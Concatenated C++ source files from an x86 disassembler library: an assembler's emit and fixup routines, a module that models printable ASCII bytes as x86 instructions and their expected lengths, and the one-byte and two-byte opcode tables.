  return *this;
}

Assembler& Assembler::call(Label target) {
  emit8(0xE8);
  reference(target, FixupKind::kRel32);
  return *this;
}

Assembler& Assembler::ret() {
  emit8(0xC3);
  return *this;
}

Assembler& Assembler::int_(std::uint8_t vector) {
  emit8(0xCD);
  emit8(vector);
  return *this;
}

Assembler& Assembler::nop() {
  emit8(0x90);
  return *this;
}

Assembler& Assembler::raw(std::initializer_list<int> bytes) {
  for (int b : bytes) emit8(static_cast<std::uint8_t>(b));
  return *this;
}

void Assembler::apply_fixups() {
  for (const Fixup& fixup : fixups_) {
    const std::ptrdiff_t target = label_positions_[fixup.label];
    assert(target >= 0 && "unbound label referenced");
    if (fixup.kind == FixupKind::kRel8) {
      const std::ptrdiff_t rel =
          target - static_cast<std::ptrdiff_t>(fixup.position) - 1;
      assert(rel >= -128 && rel <= 127 && "rel8 target out of range");
      code_[fixup.position] = static_cast<std::uint8_t>(rel);
    } else {
      const std::ptrdiff_t rel =
          target - static_cast<std::ptrdiff_t>(fixup.position) - 4;
      const auto rel32 = static_cast<std::uint32_t>(
          static_cast<std::int32_t>(rel));
      code_[fixup.position] = static_cast<std::uint8_t>(rel32);
      code_[fixup.position + 1] = static_cast<std::uint8_t>(rel32 >> 8);
      code_[fixup.position + 2] = static_cast<std::uint8_t>(rel32 >> 16);
      code_[fixup.position + 3] = static_cast<std::uint8_t>(rel32 >> 24);
    }
  }
  fixups_.clear();
}

util::ByteBuffer Assembler::take() {
  apply_fixups();
  util::ByteBuffer out = std::move(code_);
  code_.clear();
  label_positions_.clear();
  return out;
}

}  // namespace mel::disasm
