#include "mel/disasm/text_subset.hpp"

#include <cassert>
#include <cmath>

#include "mel/disasm/instruction.hpp"
#include "mel/disasm/opcode_table.hpp"

namespace mel::disasm {

namespace {

/// Total probability mass on text bytes; used to validate distributions.
[[maybe_unused]] double text_mass(ByteDistribution dist) {
  double mass = 0.0;
  for (int b = util::kTextLow; b <= util::kTextHigh; ++b) mass += dist[b];
  return mass;
}

/// P[byte & 7 == 5] under dist, i.e. a SIB base field of 5 which adds a
/// disp32 when mod == 0.
double sib_base5_probability(ByteDistribution dist) {
  double p = 0.0;
  for (int b = util::kTextLow; b <= util::kTextHigh; ++b) {
    if ((b & 7) == 5) p += dist[b];
  }
  return p;
}

/// Immediate/displacement byte count contributed by a template, for text
/// streams (no 0x66-within-instruction: prefixes are part of the chain).
int template_tail_bytes(OpTemplate ot) {
  switch (ot) {
    case OpTemplate::kIb:
    case OpTemplate::kIbU:
    case OpTemplate::kJb:
      return 1;
    case OpTemplate::kIw:
      return 2;
    case OpTemplate::kIz:
    case OpTemplate::kJz:
    case OpTemplate::kOb:
    case OpTemplate::kOv:
      return 4;
    case OpTemplate::kAp:
      return 6;
    default:
      return 0;
  }
}

}  // namespace

TextOpcodeCategory classify_text_opcode(std::uint8_t b) noexcept {
  if (!util::is_text_byte(b)) return TextOpcodeCategory::kNotText;
  if (is_text_prefix_byte(b)) return TextOpcodeCategory::kPrefix;
  if (is_text_io_opcode(b)) return TextOpcodeCategory::kIo;
  if (b >= 0x70 && b <= 0x7E) return TextOpcodeCategory::kJump;
  switch (b) {
    case 0x27:  // daa
    case 0x2F:  // das
    case 0x37:  // aaa
    case 0x3F:  // aas
    case 0x62:  // bound
    case 0x63:  // arpl
      return TextOpcodeCategory::kMisc;
    default:
      return TextOpcodeCategory::kRegisterMemory;
  }
}

bool is_text_prefix_byte(std::uint8_t b) noexcept {
  return util::is_text_byte(b) && one_byte_table()[b].is_prefix;
}

const std::vector<std::uint8_t>& text_opcode_bytes() {
  static const std::vector<std::uint8_t> bytes = [] {
    std::vector<std::uint8_t> out;
    for (int b = util::kTextLow; b <= util::kTextHigh; ++b) {
      const auto byte = static_cast<std::uint8_t>(b);
      if (!is_text_prefix_byte(byte)) out.push_back(byte);
    }
    return out;
  }();
  return bytes;
}

std::vector<TextOpcodeInfo> text_opcode_inventory() {
  std::vector<TextOpcodeInfo> rows;
  for (int b = util::kTextLow; b <= util::kTextHigh; ++b) {
    const auto byte = static_cast<std::uint8_t>(b);
    const TextOpcodeCategory category = classify_text_opcode(byte);
    std::string_view name;
    if (category == TextOpcodeCategory::kPrefix) {
      switch (byte) {
        case 0x26: name = "es:"; break;
        case 0x2E: name = "cs:"; break;
        case 0x36: name = "ss:"; break;
        case 0x3E: name = "ds:"; break;
        case 0x64: name = "fs:"; break;
        case 0x65: name = "gs:"; break;
        case 0x66: name = "o16"; break;
        case 0x67: name = "a16"; break;
        default: name = "?"; break;
      }
    } else {
      const OpcodeInfo& info = one_byte_table()[byte];
      if (info.group != OpGroup::kNone) {
        name = "(group)";
      } else {
        name = mnemonic_name(info.mnemonic, byte & 0xF);
      }
    }
    rows.push_back(TextOpcodeInfo{byte, static_cast<char>(byte), name,
                                  category});
  }
  return rows;
}

double prefix_char_probability(ByteDistribution dist) {
  double z = 0.0;
  for (int b = util::kTextLow; b <= util::kTextHigh; ++b) {
    if (is_text_prefix_byte(static_cast<std::uint8_t>(b))) z += dist[b];
  }
  return z;
}

double expected_prefix_chain_length(ByteDistribution dist) {
  const double z = prefix_char_probability(dist);
  assert(z < 1.0);
  return z / (1.0 - z);
}

double expected_length_for_opcode(std::uint8_t opcode, ByteDistribution dist) {
  assert(util::is_text_byte(opcode));
  assert(!is_text_prefix_byte(opcode));
  const OpcodeInfo& info = one_byte_table()[opcode];
  assert(info.defined());

  double length = 1.0;  // The opcode byte itself.

  if (info.needs_modrm()) {
    // Enumerate text ModR/M values weighted by the stream distribution.
    // Text bytes have MSB 0, so mod is 0 (0x20..0x3F) or 1 (0x40..0x7E):
    // the register-register form (mod 3) is unreachable — the structural
    // fact behind the paper's "one operand must come from memory".
    const double p_base5 = sib_base5_probability(dist);
    double modrm_mass = 0.0;
    double expected_tail = 0.0;
    for (int m = util::kTextLow; m <= util::kTextHigh; ++m) {
      const double weight = dist[m];
      if (weight == 0.0) continue;
      modrm_mass += weight;
      const int mod = m >> 6;
      const int rm = m & 7;
      double tail = 1.0;  // The ModR/M byte.
      if (mod == 0) {
        if (rm == 4) {
          tail += 1.0 + 4.0 * p_base5;  // SIB, plus disp32 when base==5.
        } else if (rm == 5) {
          tail += 4.0;  // disp32 absolute.
        }
      } else {        // mod == 1
        tail += 1.0;  // disp8.
        if (rm == 4) tail += 1.0;  // SIB.
      }
      expected_tail += weight * tail;
    }
    assert(modrm_mass > 0.0);
    length += expected_tail / modrm_mass;
  }

  length += template_tail_bytes(info.op1);
  length += template_tail_bytes(info.op2);
  length += template_tail_bytes(info.op3);
  return length;
}

double expected_actual_instruction_length(ByteDistribution dist) {
  assert(std::fabs(text_mass(dist) - 1.0) < 1e-6 &&
         "distribution must be over the text domain");
  // The opcode byte is the first non-prefix character: renormalize over
  // non-prefix text bytes.
  double opcode_mass = 0.0;
  double expectation = 0.0;
  for (std::uint8_t opcode : text_opcode_bytes()) {
    const double weight = dist[opcode];
    if (weight == 0.0) continue;
    opcode_mass += weight;
    expectation += weight * expected_length_for_opcode(opcode, dist);
  }
  assert(opcode_mass > 0.0);
  return expectation / opcode_mass;
}

double expected_instruction_length(ByteDistribution dist) {
  return expected_prefix_chain_length(dist) +
         expected_actual_instruction_length(dist);
}

}  // namespace mel::disasm
