#include "mel/disasm/opcode_table.hpp"

namespace mel::disasm {

namespace {

using OT = OpTemplate;
using M = Mnemonic;

constexpr std::uint32_t kRW = 0;  // marker comments only

/// Builder shorthands. An OpcodeInfo is mostly zero; these helpers keep the
/// 256-entry tables legible.
constexpr OpcodeInfo op(M m, OT a = OT::kNone, OT b = OT::kNone,
                        OT c = OT::kNone, std::uint32_t flags = kFlagNone,
                        bool dst_writes = false, bool dst_reads = false) {
  OpcodeInfo info{};
  info.mnemonic = m;
  info.op1 = a;
  info.op2 = b;
  info.op3 = c;
  info.flags = flags;
  info.dst_writes = dst_writes;
  info.dst_reads = dst_reads;
  return info;
}

constexpr OpcodeInfo group_op(OpGroup g, OT a, OT b = OT::kNone,
                              std::uint32_t flags = kFlagNone) {
  OpcodeInfo info{};
  info.mnemonic = M::kUnknown;  // Replaced by the group entry.
  info.group = g;
  info.op1 = a;
  info.op2 = b;
  info.flags = flags;
  return info;
}

constexpr OpcodeInfo prefix_op() {
  OpcodeInfo info{};
  info.mnemonic = M::kUnknown;
  info.is_prefix = true;
  return info;
}

constexpr OpcodeInfo seg_stack_op(M m, SegReg seg, std::uint32_t flags) {
  OpcodeInfo info = op(m, OT::kSeg, OT::kNone, OT::kNone, flags);
  info.fixed_seg = seg;
  return info;
}

constexpr OpcodeInfo undefined_op() {
  OpcodeInfo info{};
  info.mnemonic = M::kInvalid;
  info.flags = kFlagUndefined;
  return info;
}

/// Fills the six standard encodings of a classic ALU opcode block starting
/// at `base` (ADD/OR/ADC/SBB/AND/SUB/XOR/CMP).
constexpr void fill_alu_block(std::array<OpcodeInfo, 256>& t, std::uint8_t base,
                              M m, bool writes) {
  t[base + 0] = op(m, OT::kEb, OT::kGb, OT::kNone, kFlagNone, writes, true);
  t[base + 1] = op(m, OT::kEv, OT::kGv, OT::kNone, kFlagNone, writes, true);
  t[base + 2] = op(m, OT::kGb, OT::kEb, OT::kNone, kFlagNone, writes, true);
  t[base + 3] = op(m, OT::kGv, OT::kEv, OT::kNone, kFlagNone, writes, true);
  t[base + 4] = op(m, OT::kAL, OT::kIb, OT::kNone, kFlagNone, writes, true);
  t[base + 5] = op(m, OT::keAX, OT::kIz, OT::kNone, kFlagNone, writes, true);
}

constexpr std::array<OpcodeInfo, 256> build_one_byte_table() {
  std::array<OpcodeInfo, 256> t{};
  for (auto& e : t) e = undefined_op();

  fill_alu_block(t, 0x00, M::kAdd, /*writes=*/true);
  t[0x06] = seg_stack_op(M::kPush, SegReg::kEs, kFlagStackWrite);
  t[0x07] = seg_stack_op(M::kPop, SegReg::kEs,
                         kFlagStackRead | kFlagSegmentLoad);
  fill_alu_block(t, 0x08, M::kOr, true);
  t[0x0E] = seg_stack_op(M::kPush, SegReg::kCs, kFlagStackWrite);
  // 0x0F is the two-byte escape; handled by the decoder before table lookup.
  fill_alu_block(t, 0x10, M::kAdc, true);
  t[0x16] = seg_stack_op(M::kPush, SegReg::kSs, kFlagStackWrite);
  t[0x17] = seg_stack_op(M::kPop, SegReg::kSs,
                         kFlagStackRead | kFlagSegmentLoad);
  fill_alu_block(t, 0x18, M::kSbb, true);
  t[0x1E] = seg_stack_op(M::kPush, SegReg::kDs, kFlagStackWrite);
  t[0x1F] = seg_stack_op(M::kPop, SegReg::kDs,
                         kFlagStackRead | kFlagSegmentLoad);
  fill_alu_block(t, 0x20, M::kAnd, true);
  t[0x26] = prefix_op();  // es:
  t[0x27] = op(M::kDaa, OT::kNone, OT::kNone, OT::kNone, kFlagLegacyBcd);
  fill_alu_block(t, 0x28, M::kSub, true);
  t[0x2E] = prefix_op();  // cs:
  t[0x2F] = op(M::kDas, OT::kNone, OT::kNone, OT::kNone, kFlagLegacyBcd);
  fill_alu_block(t, 0x30, M::kXor, true);
  t[0x36] = prefix_op();  // ss:
  t[0x37] = op(M::kAaa, OT::kNone, OT::kNone, OT::kNone, kFlagLegacyBcd);
  fill_alu_block(t, 0x38, M::kCmp, /*writes=*/false);
  t[0x3E] = prefix_op();  // ds:
  t[0x3F] = op(M::kAas, OT::kNone, OT::kNone, OT::kNone, kFlagLegacyBcd);

  for (int r = 0; r < 8; ++r) {
    t[0x40 + r] = op(M::kInc, OT::kRegV, OT::kNone, OT::kNone, kFlagNone,
                     true, true);
    t[0x48 + r] = op(M::kDec, OT::kRegV, OT::kNone, OT::kNone, kFlagNone,
                     true, true);
    t[0x50 + r] = op(M::kPush, OT::kRegV, OT::kNone, OT::kNone,
                     kFlagStackWrite, false, true);
    t[0x58 + r] = op(M::kPop, OT::kRegV, OT::kNone, OT::kNone,
                     kFlagStackRead, true, false);
  }

  t[0x60] = op(M::kPusha, OT::kNone, OT::kNone, OT::kNone, kFlagStackWrite);
  t[0x61] = op(M::kPopa, OT::kNone, OT::kNone, OT::kNone, kFlagStackRead);
  t[0x62] = op(M::kBound, OT::kGv, OT::kMa, OT::kNone, kFlagNone, false, true);
  t[0x63] = op(M::kArpl, OT::kEw, OT::kGw, OT::kNone, kFlagNone, true, true);
  t[0x64] = prefix_op();  // fs:
  t[0x65] = prefix_op();  // gs:
  t[0x66] = prefix_op();  // operand size
  t[0x67] = prefix_op();  // address size
  t[0x68] = op(M::kPush, OT::kIz, OT::kNone, OT::kNone, kFlagStackWrite);
  t[0x69] = op(M::kImul, OT::kGv, OT::kEv, OT::kIz, kFlagNone, true, false);
  t[0x6A] = op(M::kPush, OT::kIb, OT::kNone, OT::kNone, kFlagStackWrite);
  t[0x6B] = op(M::kImul, OT::kGv, OT::kEv, OT::kIb, kFlagNone, true, false);
  t[0x6C] = op(M::kIns, OT::kNone, OT::kNone, OT::kNone,
               kFlagIoString | kFlagString | kFlagMemWrite);
  t[0x6D] = op(M::kIns, OT::kNone, OT::kNone, OT::kNone,
               kFlagIoString | kFlagString | kFlagMemWrite);
  t[0x6E] = op(M::kOuts, OT::kNone, OT::kNone, OT::kNone,
               kFlagIoString | kFlagString | kFlagMemRead);
  t[0x6F] = op(M::kOuts, OT::kNone, OT::kNone, OT::kNone,
               kFlagIoString | kFlagString | kFlagMemRead);

  for (int cc = 0; cc < 16; ++cc) {
    t[0x70 + cc] = op(M::kJcc, OT::kJb, OT::kNone, OT::kNone, kFlagCondBranch);
  }

  t[0x80] = group_op(OpGroup::kGroup1, OT::kEb, OT::kIb);
  t[0x81] = group_op(OpGroup::kGroup1, OT::kEv, OT::kIz);
  t[0x82] = group_op(OpGroup::kGroup1, OT::kEb, OT::kIb);  // alias of 0x80
  t[0x83] = group_op(OpGroup::kGroup1, OT::kEv, OT::kIb);
  t[0x84] = op(M::kTest, OT::kEb, OT::kGb, OT::kNone, kFlagNone, false, true);
  t[0x85] = op(M::kTest, OT::kEv, OT::kGv, OT::kNone, kFlagNone, false, true);
  t[0x86] = op(M::kXchg, OT::kEb, OT::kGb, OT::kNone, kFlagNone, true, true);
  t[0x87] = op(M::kXchg, OT::kEv, OT::kGv, OT::kNone, kFlagNone, true, true);
  t[0x88] = op(M::kMov, OT::kEb, OT::kGb, OT::kNone, kFlagNone, true, false);
  t[0x89] = op(M::kMov, OT::kEv, OT::kGv, OT::kNone, kFlagNone, true, false);
  t[0x8A] = op(M::kMov, OT::kGb, OT::kEb, OT::kNone, kFlagNone, true, false);
  t[0x8B] = op(M::kMov, OT::kGv, OT::kEv, OT::kNone, kFlagNone, true, false);
  t[0x8C] = op(M::kMov, OT::kEv, OT::kSw, OT::kNone, kFlagNone, true, false);
  t[0x8D] = op(M::kLea, OT::kGv, OT::kM, OT::kNone, kFlagNone, true, false);
  t[0x8E] = op(M::kMov, OT::kSw, OT::kEw, OT::kNone, kFlagSegmentLoad, true,
               false);
  t[0x8F] = group_op(OpGroup::kGroup1A, OT::kEv, OT::kNone, kFlagStackRead);

  t[0x90] = op(M::kNop);
  for (int r = 1; r < 8; ++r) {
    t[0x90 + r] = op(M::kXchg, OT::kRegV, OT::keAX, OT::kNone, kFlagNone,
                     true, true);
  }
  t[0x98] = op(M::kCwde);
  t[0x99] = op(M::kCdq);
  t[0x9A] = op(M::kCallFar, OT::kAp, OT::kNone, OT::kNone,
               kFlagCall | kFlagBranchFar | kFlagStackWrite);
  t[0x9B] = op(M::kWait);
  t[0x9C] = op(M::kPushf, OT::kNone, OT::kNone, OT::kNone, kFlagStackWrite);
  t[0x9D] = op(M::kPopf, OT::kNone, OT::kNone, OT::kNone, kFlagStackRead);
  t[0x9E] = op(M::kSahf);
  t[0x9F] = op(M::kLahf);

  t[0xA0] = op(M::kMov, OT::kAL, OT::kOb, OT::kNone, kFlagMemRead, true,
               false);
  t[0xA1] = op(M::kMov, OT::keAX, OT::kOv, OT::kNone, kFlagMemRead, true,
               false);
  t[0xA2] = op(M::kMov, OT::kOb, OT::kAL, OT::kNone, kFlagMemWrite, true,
               false);
  t[0xA3] = op(M::kMov, OT::kOv, OT::keAX, OT::kNone, kFlagMemWrite, true,
               false);
  t[0xA4] = op(M::kMovs, OT::kNone, OT::kNone, OT::kNone,
               kFlagString | kFlagMemRead | kFlagMemWrite);
  t[0xA5] = t[0xA4];
  t[0xA6] = op(M::kCmps, OT::kNone, OT::kNone, OT::kNone,
               kFlagString | kFlagMemRead);
  t[0xA7] = t[0xA6];
  t[0xA8] = op(M::kTest, OT::kAL, OT::kIb, OT::kNone, kFlagNone, false, true);
  t[0xA9] = op(M::kTest, OT::keAX, OT::kIz, OT::kNone, kFlagNone, false, true);
  t[0xAA] = op(M::kStos, OT::kNone, OT::kNone, OT::kNone,
               kFlagString | kFlagMemWrite);
  t[0xAB] = t[0xAA];
  t[0xAC] = op(M::kLods, OT::kNone, OT::kNone, OT::kNone,
               kFlagString | kFlagMemRead);
  t[0xAD] = t[0xAC];
  t[0xAE] = op(M::kScas, OT::kNone, OT::kNone, OT::kNone,
               kFlagString | kFlagMemRead);
  t[0xAF] = t[0xAE];

  for (int r = 0; r < 8; ++r) {
    t[0xB0 + r] = op(M::kMov, OT::kRegB, OT::kIb, OT::kNone, kFlagNone, true,
                     false);
    t[0xB8 + r] = op(M::kMov, OT::kRegV, OT::kIz, OT::kNone, kFlagNone, true,
                     false);
  }

  t[0xC0] = group_op(OpGroup::kGroup2, OT::kEb, OT::kIbU);
  t[0xC1] = group_op(OpGroup::kGroup2, OT::kEv, OT::kIbU);
  t[0xC2] = op(M::kRet, OT::kIw, OT::kNone, OT::kNone,
               kFlagRet | kFlagStackRead);
  t[0xC3] = op(M::kRet, OT::kNone, OT::kNone, OT::kNone,
               kFlagRet | kFlagStackRead);
  t[0xC4] = op(M::kLes, OT::kGv, OT::kMp, OT::kNone,
               kFlagSegmentLoad | kFlagMemRead, true, false);
  t[0xC5] = op(M::kLds, OT::kGv, OT::kMp, OT::kNone,
               kFlagSegmentLoad | kFlagMemRead, true, false);
  t[0xC6] = group_op(OpGroup::kGroup11, OT::kEb, OT::kIb);
  t[0xC7] = group_op(OpGroup::kGroup11, OT::kEv, OT::kIz);
  t[0xC8] = op(M::kEnter, OT::kIw, OT::kIbU, OT::kNone, kFlagStackWrite);
  t[0xC9] = op(M::kLeave, OT::kNone, OT::kNone, OT::kNone, kFlagStackRead);
  t[0xCA] = op(M::kRetFar, OT::kIw, OT::kNone, OT::kNone,
               kFlagRet | kFlagStackRead | kFlagBranchFar);
  t[0xCB] = op(M::kRetFar, OT::kNone, OT::kNone, OT::kNone,
               kFlagRet | kFlagStackRead | kFlagBranchFar);
  t[0xCC] = op(M::kInt3, OT::kNone, OT::kNone, OT::kNone, kFlagInterrupt);
  t[0xCD] = op(M::kInt, OT::kIbU, OT::kNone, OT::kNone, kFlagInterrupt);
  t[0xCE] = op(M::kInto, OT::kNone, OT::kNone, OT::kNone, kFlagInterrupt);
  t[0xCF] = op(M::kIret, OT::kNone, OT::kNone, OT::kNone,
               kFlagRet | kFlagStackRead | kFlagInterrupt);

  t[0xD0] = group_op(OpGroup::kGroup2, OT::kEb, OT::kI1);
  t[0xD1] = group_op(OpGroup::kGroup2, OT::kEv, OT::kI1);
  t[0xD2] = group_op(OpGroup::kGroup2, OT::kEb, OT::kCL);
  t[0xD3] = group_op(OpGroup::kGroup2, OT::kEv, OT::kCL);
  t[0xD4] = op(M::kAam, OT::kIbU, OT::kNone, OT::kNone, kFlagLegacyBcd);
  t[0xD5] = op(M::kAad, OT::kIbU, OT::kNone, OT::kNone, kFlagLegacyBcd);
  t[0xD6] = op(M::kSalc);  // Undocumented but executes everywhere.
  t[0xD7] = op(M::kXlat, OT::kNone, OT::kNone, OT::kNone, kFlagMemRead);
  for (int e = 0; e < 8; ++e) {
    t[0xD8 + e] = op(M::kFpu, OT::kEv, OT::kNone, OT::kNone, kFlagFpu, false,
                     true);
  }

  t[0xE0] = op(M::kLoopne, OT::kJb, OT::kNone, OT::kNone, kFlagCondBranch);
  t[0xE1] = op(M::kLoope, OT::kJb, OT::kNone, OT::kNone, kFlagCondBranch);
  t[0xE2] = op(M::kLoop, OT::kJb, OT::kNone, OT::kNone, kFlagCondBranch);
  t[0xE3] = op(M::kJecxz, OT::kJb, OT::kNone, OT::kNone, kFlagCondBranch);
  t[0xE4] = op(M::kIn, OT::kAL, OT::kIbU, OT::kNone, kFlagIoPort, true, false);
  t[0xE5] = op(M::kIn, OT::keAX, OT::kIbU, OT::kNone, kFlagIoPort, true, false);
  t[0xE6] = op(M::kOut, OT::kIbU, OT::kAL, OT::kNone, kFlagIoPort);
  t[0xE7] = op(M::kOut, OT::kIbU, OT::keAX, OT::kNone, kFlagIoPort);
  t[0xE8] = op(M::kCall, OT::kJz, OT::kNone, OT::kNone,
               kFlagCall | kFlagStackWrite);
  t[0xE9] = op(M::kJmp, OT::kJz, OT::kNone, OT::kNone, kFlagUncondBranch);
  t[0xEA] = op(M::kJmpFar, OT::kAp, OT::kNone, OT::kNone,
               kFlagUncondBranch | kFlagBranchFar);
  t[0xEB] = op(M::kJmp, OT::kJb, OT::kNone, OT::kNone, kFlagUncondBranch);
  t[0xEC] = op(M::kIn, OT::kAL, OT::kDX, OT::kNone, kFlagIoPort, true, false);
  t[0xED] = op(M::kIn, OT::keAX, OT::kDX, OT::kNone, kFlagIoPort, true,
               false);
  t[0xEE] = op(M::kOut, OT::kDX, OT::kAL, OT::kNone, kFlagIoPort);
  t[0xEF] = op(M::kOut, OT::kDX, OT::keAX, OT::kNone, kFlagIoPort);

  t[0xF0] = prefix_op();  // lock
  t[0xF1] = op(M::kInt1, OT::kNone, OT::kNone, OT::kNone, kFlagInterrupt);
  t[0xF2] = prefix_op();  // repne
  t[0xF3] = prefix_op();  // rep
  t[0xF4] = op(M::kHlt, OT::kNone, OT::kNone, OT::kNone, kFlagPrivileged);
  t[0xF5] = op(M::kCmc);
  t[0xF6] = group_op(OpGroup::kGroup3, OT::kEb);
  t[0xF7] = group_op(OpGroup::kGroup3, OT::kEv);
  t[0xF8] = op(M::kClc);
  t[0xF9] = op(M::kStc);
  t[0xFA] = op(M::kCli, OT::kNone, OT::kNone, OT::kNone, kFlagPrivileged);
  t[0xFB] = op(M::kSti, OT::kNone, OT::kNone, OT::kNone, kFlagPrivileged);
  t[0xFC] = op(M::kCld);
  t[0xFD] = op(M::kStd);
  t[0xFE] = group_op(OpGroup::kGroup4, OT::kEb);
  t[0xFF] = group_op(OpGroup::kGroup5, OT::kEv);

  (void)kRW;
  return t;
}

constexpr std::array<OpcodeInfo, 256> build_two_byte_table() {
  std::array<OpcodeInfo, 256> t{};
  // Default: recognized escape page, unmodeled opcode. Treated as
  // run-terminating by validity policies (conservative; see header).
  for (auto& e : t) {
    e = OpcodeInfo{};
    e.mnemonic = M::kUnknown;
    e.flags = kFlagUndefined;
  }

  t[0x00] = op(M::kSystemGroup, OT::kEw, OT::kNone, OT::kNone,
               kFlagSystem | kFlagPrivileged, false, true);
  t[0x01] = op(M::kSystemGroup, OT::kEv, OT::kNone, OT::kNone,
               kFlagSystem | kFlagPrivileged, false, true);
  t[0x06] = op(M::kSystemGroup, OT::kNone, OT::kNone, OT::kNone,
               kFlagSystem | kFlagPrivileged);  // clts
  t[0x08] = op(M::kSystemGroup, OT::kNone, OT::kNone, OT::kNone,
               kFlagSystem | kFlagPrivileged);  // invd
  t[0x09] = op(M::kSystemGroup, OT::kNone, OT::kNone, OT::kNone,
               kFlagSystem | kFlagPrivileged);  // wbinvd
  t[0x02] = op(M::kLar, OT::kGv, OT::kEw, OT::kNone, kFlagSystem, true,
               false);
  t[0x03] = op(M::kLsl, OT::kGv, OT::kEw, OT::kNone, kFlagSystem, true,
               false);
  t[0x1F] = op(M::kNop, OT::kEv);  // Multi-byte NOP; no memory access.
  t[0x31] = op(M::kRdtsc, OT::kNone, OT::kNone, OT::kNone, kFlagSystem);
  t[0x34] = op(M::kSysenter, OT::kNone, OT::kNone, OT::kNone,
               kFlagSystem | kFlagInterrupt);
  t[0x35] = op(M::kSysexit, OT::kNone, OT::kNone, OT::kNone,
               kFlagSystem | kFlagPrivileged);
  for (int cc = 0; cc < 16; ++cc) {
    t[0x40 + cc] = op(M::kCmovcc, OT::kGv, OT::kEv, OT::kNone, kFlagNone,
                      true, true);
    t[0x80 + cc] = op(M::kJcc, OT::kJz, OT::kNone, OT::kNone, kFlagCondBranch);
    t[0x90 + cc] = op(M::kSetcc, OT::kEb, OT::kNone, OT::kNone, kFlagNone,
                      true, false);
  }
  t[0xA0] = seg_stack_op(M::kPush, SegReg::kFs, kFlagStackWrite);
  t[0xA1] = seg_stack_op(M::kPop, SegReg::kFs,
                         kFlagStackRead | kFlagSegmentLoad);
  t[0xA2] = op(M::kCpuid, OT::kNone, OT::kNone, OT::kNone, kFlagSystem);
  t[0xA3] = op(M::kBt, OT::kEv, OT::kGv, OT::kNone, kFlagNone, false, true);
  t[0xA4] = op(M::kShld, OT::kEv, OT::kGv, OT::kIbU, kFlagNone, true, true);
  t[0xA5] = op(M::kShld, OT::kEv, OT::kGv, OT::kCL, kFlagNone, true, true);
  t[0xA8] = seg_stack_op(M::kPush, SegReg::kGs, kFlagStackWrite);
  t[0xA9] = seg_stack_op(M::kPop, SegReg::kGs,
                         kFlagStackRead | kFlagSegmentLoad);
  t[0xAB] = op(M::kBts, OT::kEv, OT::kGv, OT::kNone, kFlagNone, true, true);
  t[0xAC] = op(M::kShrd, OT::kEv, OT::kGv, OT::kIbU, kFlagNone, true, true);
  t[0xAD] = op(M::kShrd, OT::kEv, OT::kGv, OT::kCL, kFlagNone, true, true);
  t[0xAF] = op(M::kImul, OT::kGv, OT::kEv, OT::kNone, kFlagNone, true, true);
  t[0xB3] = op(M::kBtr, OT::kEv, OT::kGv, OT::kNone, kFlagNone, true, true);
  t[0xBA] = group_op(OpGroup::kGroup8, OT::kEv, OT::kIbU);
  t[0xBB] = op(M::kBtc, OT::kEv, OT::kGv, OT::kNone, kFlagNone, true, true);
  t[0xB6] = op(M::kMovzx, OT::kGv, OT::kEb, OT::kNone, kFlagNone, true, false);
  t[0xB7] = op(M::kMovzx, OT::kGv, OT::kEw, OT::kNone, kFlagNone, true, false);
  t[0xBE] = op(M::kMovsx, OT::kGv, OT::kEb, OT::kNone, kFlagNone, true, false);
  t[0xBF] = op(M::kMovsx, OT::kGv, OT::kEw, OT::kNone, kFlagNone, true, false);
  for (int r = 0; r < 8; ++r) {
    t[0xC8 + r] = op(M::kBswap, OT::kRegV, OT::kNone, OT::kNone, kFlagNone,
                     true, true);
  }
  return t;
}

// Group resolution tables --------------------------------------------------

constexpr GroupEntry ge(M m, bool writes, bool reads,
                        std::uint32_t extra = kFlagNone) {
  return GroupEntry{m, extra, writes, reads};
}

constexpr std::array<GroupEntry, 8> kGroup1 = {
    ge(M::kAdd, true, true), ge(M::kOr, true, true),
    ge(M::kAdc, true, true), ge(M::kSbb, true, true),
    ge(M::kAnd, true, true), ge(M::kSub, true, true),
    ge(M::kXor, true, true), ge(M::kCmp, false, true),
};

constexpr std::array<GroupEntry, 8> kGroup1A = {
    ge(M::kPop, true, false), GroupEntry{}, GroupEntry{}, GroupEntry{},
    GroupEntry{}, GroupEntry{}, GroupEntry{}, GroupEntry{},
};

constexpr std::array<GroupEntry, 8> kGroup2 = {
    ge(M::kRol, true, true), ge(M::kRor, true, true),
    ge(M::kRcl, true, true), ge(M::kRcr, true, true),
    ge(M::kShl, true, true), ge(M::kShr, true, true),
    ge(M::kSal, true, true), ge(M::kSar, true, true),
};

constexpr std::array<GroupEntry, 8> kGroup3 = {
    ge(M::kTest, false, true), ge(M::kTest, false, true),
    ge(M::kNot, true, true),   ge(M::kNeg, true, true),
    ge(M::kMul, false, true),  ge(M::kImul, false, true),
    ge(M::kDiv, false, true),  ge(M::kIdiv, false, true),
};

constexpr std::array<GroupEntry, 8> kGroup4 = {
    ge(M::kInc, true, true), ge(M::kDec, true, true),
    GroupEntry{}, GroupEntry{}, GroupEntry{}, GroupEntry{},
    GroupEntry{}, GroupEntry{},
};

constexpr std::array<GroupEntry, 8> kGroup5 = {
    ge(M::kInc, true, true),
    ge(M::kDec, true, true),
    ge(M::kCall, false, true,
       kFlagCall | kFlagBranchIndirect | kFlagStackWrite),
    ge(M::kCallFar, false, true,
       kFlagCall | kFlagBranchIndirect | kFlagBranchFar | kFlagStackWrite),
    ge(M::kJmp, false, true, kFlagUncondBranch | kFlagBranchIndirect),
    ge(M::kJmpFar, false, true,
       kFlagUncondBranch | kFlagBranchIndirect | kFlagBranchFar),
    ge(M::kPush, false, true, kFlagStackWrite),
    GroupEntry{},
};

constexpr std::array<GroupEntry, 8> kGroup8 = {
    GroupEntry{}, GroupEntry{}, GroupEntry{}, GroupEntry{},
    ge(M::kBt, false, true), ge(M::kBts, true, true),
    ge(M::kBtr, true, true), ge(M::kBtc, true, true),
};

constexpr std::array<GroupEntry, 8> kGroup11 = {
    ge(M::kMov, true, false), GroupEntry{}, GroupEntry{}, GroupEntry{},
    GroupEntry{}, GroupEntry{}, GroupEntry{}, GroupEntry{},
};

constexpr std::array<OpcodeInfo, 256> kOneByte = build_one_byte_table();
constexpr std::array<OpcodeInfo, 256> kTwoByte = build_two_byte_table();

}  // namespace

bool OpcodeInfo::needs_modrm() const noexcept {
  const auto uses_modrm = [](OpTemplate ot) {
    switch (ot) {
      case OpTemplate::kEb:
      case OpTemplate::kEv:
      case OpTemplate::kEw:
      case OpTemplate::kGb:
      case OpTemplate::kGv:
      case OpTemplate::kGw:
      case OpTemplate::kSw:
      case OpTemplate::kM:
      case OpTemplate::kMa:
      case OpTemplate::kMp:
        return true;
      default:
        return false;
    }
  };
